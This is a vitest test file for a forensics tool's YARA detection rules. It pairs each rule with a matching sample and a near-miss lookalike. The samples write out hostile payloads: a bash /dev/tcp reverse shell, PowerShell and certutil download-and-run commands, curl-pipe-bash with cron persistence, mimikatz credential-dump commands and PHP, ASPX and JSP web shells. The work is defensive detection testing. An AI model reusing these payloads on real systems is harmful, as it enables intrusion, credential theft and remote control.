import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { compileYara } from '../../src/main/areas/forensics/yara/compile-yara.ts';
import { YaraEngine } from '../../src/main/areas/forensics/yara/yara-engine.ts';
import { makeElf, makePe } from '../helpers/make-programs.ts';

const FOLDER = join(import.meta.dirname, '../../resources/rules/yara');
const SOURCES = readdirSync(FOLDER)
  .filter((name) => name.endsWith('.yar'))
  .map((name) => ({ name, text: readFileSync(join(FOLDER, name), 'utf8') }));

const engine = new YaraEngine();
beforeAll(() => engine.use(SOURCES));
afterAll(() => engine.close());

const text = (value: string) => Buffer.from(value, 'latin1');
const wide = (value: string) => Buffer.from(value, 'utf16le');
const noise = (size: number) =>
  Buffer.from(
    Array.from({ length: size }, (_, n) => (n * 167 + (n >> 8) * 91 + ((n * n) >> 3)) & 255),
  );
const base64 = 'QWJjZGVm'.repeat(40);
const office = (more: Buffer) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(64), more]);
const shortcut = (more: string) =>
  Buffer.concat([
    Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    Buffer.alloc(60),
    wide(more),
  ]);
const onenote = (more: Buffer) =>
  Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(16), more]);
const eicar = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;

/** For each rule one file that it must match, and one that looks like it and must not be matched. */
const SAMPLES: Readonly<Record<string, readonly [hit: Buffer, miss: Buffer]>> = {
  wf_eicar_test_file: [text(eicar), text(`about: ${eicar}`)],
  wf_packer_upx: [
    makePe({ sections: ['UPX0', 'UPX1'], data: text('UPX!') }),
    text('UPX! in a text'),
  ],
  wf_packer_sections: [
    makePe({ sections: ['.text', '.aspack'] }),
    makePe({ sections: ['.text', '.rsrc'] }),
  ],
  wf_packed_entry_section: [
    makePe({ data: noise(16_384) }),
    makePe({ data: Buffer.alloc(16_384, 0x90) }),
  ],
  wf_pe_process_injection: [
    makePe({
      imports: { 'KERNEL32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] },
    }),
    makePe({ imports: { 'KERNEL32.dll': ['VirtualAlloc', 'WriteProcessMemory', 'CreateThread'] } }),
  ],
  wf_pe_keyboard_watcher: [
    makePe({
      imports: { 'USER32.dll': ['SetWindowsHookExA', 'GetForegroundWindow'], 'WS2_32.dll': [3] },
    }),
    makePe({ imports: { 'USER32.dll': ['SetWindowsHookExA', 'GetForegroundWindow'] } }),
  ],
  wf_credential_dumper: [
    wide('privilege::debug sekurlsa::logonpasswords lsadump::sam'),
    text('the command privilege::debug is known'),
  ],
  wf_lsass_dump_tool: [
    makePe({ data: text('lsass.exe SeDebugPrivilege MiniDumpWriteDump') }),
    makePe({ data: text('SeDebugPrivilege MiniDumpWriteDump') }),
  ],
  wf_elf_miner: [
    makeElf(text('stratum+tcp://pool donate-level mining.subscribe rx/0')),
    makeElf(text('huge-pages and nothing else')),
  ],
  wf_elf_reverse_shell: [
    makeElf(text('/bin/sh\0connect\0socket\0dup2\0execve\0htons\0')),
    makeElf(text('connect\0socket\0dup2\0execve\0')),
  ],
  wf_elf_runs_from_memory: [
    makeElf(text('memfd_create\0/proc/self/fd/%d\0execve\0')),
    makeElf(text('memfd_create\0/proc/self/maps\0execve\0')),
  ],
  wf_elf_preload_rootkit: [
    makeElf(text('/etc/ld.so.preload\0readdir64\0dlsym\0/proc/net/tcp\0')),
    makeElf(text('readdir64\0dlsym\0/proc/net/tcp\0')),
  ],
  wf_powershell_encoded: [
    text(`powershell.exe -nop -w hidden -enc ${base64}`),
    text('powershell.exe -EncodedCommand short'),
  ],
  wf_powershell_download_run: [
    text(
      `powershell -w hidden "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"`,
    ),
    text('Invoke-WebRequest https://a.example -OutFile a.zip'),
  ],
  wf_script_dropper_wsh: [
    text(
      'Set h = CreateObject("MSXML2.XMLHTTP"): Set s = CreateObject("ADODB.Stream"): s.SaveToFile "a.exe": CreateObject("WScript.Shell").Run "a.exe"',
    ),
    text('Set h = CreateObject("MSXML2.XMLHTTP"): WScript.Echo h.responseText'),
  ],
  wf_batch_downloader: [
    text('certutil.exe -f -urlcache -split http://a.example/x.exe x.exe'),
    text('certutil -hashfile x.exe SHA256'),
  ],
  wf_hta_runs_shell: [
    text(
      '<hta:application id=a><script language="VBScript">CreateObject("WScript.Shell")</script>',
    ),
    text('<hta:application id=a><script language="VBScript">MsgBox "hi"</script>'),
  ],
  wf_shell_reverse_connection: [
    text('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'),
    text('exec 3<>/dev/tcp/10.0.0.1/80'),
  ],
  wf_shell_cron_downloader: [
    text(
      'pkill kinsing\n(crontab -l; echo "* * * * *") | crontab -\ncurl -s http://a.example/a.sh | bash\n',
    ),
    text('curl -s https://a.example/install.sh | bash\n'),
  ],
  wf_ransom_note: [
    text(
      'All your files have been encrypted. Only our decryptor helps. Pay in Bitcoin. Do not rename files.',
    ),
    text('Your files have been encrypted with the company key before the backup.'),
  ],
  wf_webshell_php_eval: [
    text('<?php @eval($_POST["x"]); ?>'),
    text('<?php echo htmlspecialchars($_POST["x"]); ?>'),
  ],
  wf_webshell_php_command: [
    text('<?php system($_GET["c"]); ?>'),
    text('<?php system("uptime"); ?>'),
  ],
  wf_webshell_php_packed: [
    text(`<?php eval(gzinflate(base64_decode("${base64}"))); ?>`),
    text(`<?php $a = base64_decode("${base64}"); ?>`),
  ],
  wf_webshell_aspx: [
    text('<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'),
    text('<%@ Page Language="C#"%><%= Request.QueryString["x"] %>'),
  ],
  wf_webshell_jsp: [
    text('<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    text('<% out.print(request.getParameter("c")); %>'),
  ],
  wf_office_macro_auto_run: [
    office(
      Buffer.concat([wide('_VBA_PROJECT'), text('Document_Open CreateObject("WScript.Shell")')]),
    ),
    office(Buffer.concat([wide('_VBA_PROJECT'), text('Sub Sum()')])),
  ],
  wf_lnk_command_line: [
    shortcut('powershell.exe -w hidden -c iex'),
    shortcut('C:\\Program Files\\Editor\\editor.exe'),
  ],
  wf_rtf_embedded_object: [
    text('{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}'),
    text('{\\rtf1 plain words \\b bold}'),
  ],
  wf_pdf_runs_on_open: [
    text('%PDF-1.7 /OpenAction << /S /JavaScript /JS (eval(unescape("%41"))) >>'),
    text('%PDF-1.7 /OpenAction [1 0 R /Fit]'),
  ],
  wf_onenote_embedded_script: [
    onenote(
      Buffer.concat([
        Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
        text('<script>x</script>'),
      ]),
    ),
    onenote(text('notes of a meeting')),
  ],
  wf_html_smuggling: [
    text(
      `<html><script>var d="${base64.repeat(4)}";var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download="x.iso";</script>`,
    ),
    text('<html><script>var b=new Blob(["a"]);URL.createObjectURL(b);</script>'),
  ],
};

async function hitsOf(bytes: Buffer): Promise<string[]> {
  const copy = new Uint8Array(bytes.length);
  copy.set(bytes);
  const { matches } = await engine.scan(targetOf(bytes), copy, 0, 20_000);
  return matches.map(({ identifier }) => identifier);
}

function targetOf(bytes: Buffer): 'pe' | 'elf' | 'any' {
  if (bytes[0] === 0x4d && bytes[1] === 0x5a) return 'pe';
  return bytes[0] === 0x7f && bytes[1] === 0x45 ? 'elf' : 'any';
}

test('[MW8] the starter set compiles, and each rule says who wrote it, what it is and its technique', async () => {
  const answers = await compileYara(SOURCES);
  expect(answers.map(({ name, state, reasons }) => ({ name, state, reasons }))).toEqual(
    SOURCES.map(({ name }) => ({ name, state: 'ready', reasons: [] })),
  );
  const rules = answers.flatMap((answer) => answer.rules);
  expect(rules.length).toBeGreaterThanOrEqual(20);
  expect(rules.map(({ identifier }) => identifier).sort()).toEqual(Object.keys(SAMPLES).sort());
  for (const { identifier, meta } of rules) {
    expect(meta.author, identifier).toBe('Watchfloor');
    expect(meta.attack, identifier).toMatch(/^T\d{4}(\.\d{3})?$/);
    expect(meta.description?.length, identifier).toBeGreaterThan(20);
    expect(meta.level, identifier).toMatch(/^(informational|low|medium|high|critical)$/);
  }
  const ids = rules.map(({ meta }) => meta.id);
  expect(new Set(ids).size).toBe(rules.length);
});

test.for(Object.entries(SAMPLES))(
  '[MW8] %s matches its sample and not the one beside it',
  async ([rule, [hit, miss]]) => {
    expect(await hitsOf(hit)).toContain(rule);
    expect(await hitsOf(miss)).not.toContain(rule);
  },
);
